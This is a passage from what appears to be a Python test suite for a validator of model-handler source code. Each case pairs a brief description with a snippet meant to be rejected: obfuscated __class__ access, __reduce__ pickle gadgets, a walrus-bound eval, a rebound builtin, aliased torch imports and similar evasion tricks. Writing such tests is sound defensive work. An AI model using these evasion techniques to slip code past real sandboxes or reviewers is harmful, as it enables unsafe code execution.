    ('joined', 'A text of two parts.', BODY + '"{0.__cla" "ss__}".format(data)\n'),
    ('parenthesis', 'A text in brackets.', BODY + '("{0.__class__}").format(data)\n'),
    ('pattern', 'A pattern reads an attribute without a dot.', 'def handle(data, context):\n    match data:\n        case object(gi_frame=x): return x\n'),
    ('called', 'A call while the source is loaded.', 'import json\n\nx = json.loads("1")\n\n' + BODY + 'x\n'),
    ('default', 'A default that is computed.', 'import json\n\n\ndef handle(data, context, x=json.loads("1")):\n    return x\n'),
    ('decorator', 'A decorator that is called.', 'import functools\n\n\n@functools.partial(map, [])\ndef handle(data, context):\n    return data\n'),
    ('metaclass', 'A class with a metaclass.', 'class M:\n    pass\n\n\nclass Work(metaclass=M):\n    pass\n\n\n' + BODY + 'Work()\n'),
    ('base', 'A class that builds upon a call.', 'class Work(str.join("a")):\n    pass\n\n\n' + BODY + 'Work()\n'),
    ('star', 'Everything of a module.', 'from torch import *\n\n\n' + BODY + 'load(data)\n'),
    ('relative', 'An import from beside.', 'from . import other\n\n\n' + BODY + 'other\n'),
    ('alias', 'A module is given another name.', 'import torch\n\nt = torch\n\n\n' + BODY + 't.load(data)\n'),
    ('argument', 'A module is an argument.', 'import torch\n\n\ndef use(torch):\n    return torch.mul\n\n\n' + BODY + 'use(data)\n'),
    ('loads-pickle', 'A method of the class above that loads a pickle.', BASE + 'def inference(self, data):\n        return self._load_pickled_model(data, "x", data)\n'),
    ('initialize', 'The class above is initialised with a context of its own.', BASE + 'def inference(self, data):\n        return super().initialize(data)\n'),
    ('initialize-own', 'The same where the file has such a method itself.', BASE + 'def initialize(self, context):\n        return super().initialize({"a": context})\n'),
    ('initialize-other', 'The same by a method that another class has.', 'class Other:\n    def initialize(self, x):\n        return x\n\n\n' + BASE + 'def inference(self, data):\n        return self.initialize(data)\n'),
    ('super', 'super of something else.', BASE + 'def inference(self, data):\n        return super(BaseHandler, self).handle(data, data)\n'),
    ('mangled', 'A name that the class changes.', BASE + 'def inference(self, data):\n        return self.__class__.__mro__\n'),
    ('store', 'The type of an array is changed by a loop.', 'def handle(data, context):\n    for data.dtype in "O":\n        pass\n'),
    ('store-tuple', 'It is changed beside another.', 'def handle(data, context):\n    data.dtype, x = "O", 1\n'),
    ('item', 'An item of the context is replaced.', 'def handle(data, context):\n    context["a"] = data\n'),
    ('with', 'What a file is opened as.', 'def handle(data, context):\n    with data as context.dtype:\n        pass\n'),
    ('condition', 'A condition while the source is loaded.', 'if True:\n    x = 1\n\n\n' + BODY + 'x\n'),
    ('semicolon', 'Two statements on a line.', 'x = 1; y = 2\n\n\n' + BODY + 'x\n'),
    ('tab', 'A tab that may be as wide as one likes.', b'def handle(data, context):\n\treturn data\n'),
    ('global', 'A builtin is given another meaning.', 'def handle(data, context):\n    global len\n    len = data\n'),
    ('walrus', 'A builtin that evaluates is an argument of a call.', BODY + '[y := eval, y(data)]\n'),
    ('async', 'A coroutine.', 'async def handle(data, context):\n    return data\n'),
    ('nested-class', 'A class inside of a function.', 'def handle(data, context):\n    class A:\n        def __reduce__(self): return (len, ())\n    return A()\n'),
    ('reduce', 'A class with __reduce__.', 'class A:\n    def __reduce__(self):\n        return (len, ())\n\n\n' + BODY + 'A()\n'),
    ('lambda-default', 'A default of a lambda that is computed while the source is loaded.', 'import json\n\nx = lambda y=json.loads("1"): y\n\n\n' + BODY + 'x\n'),
    ('invalid', 'Bytes that are no UTF-8.', b'def handle(data, context):\n    return "\xff"\n'),
):
    handler(name, about, source)
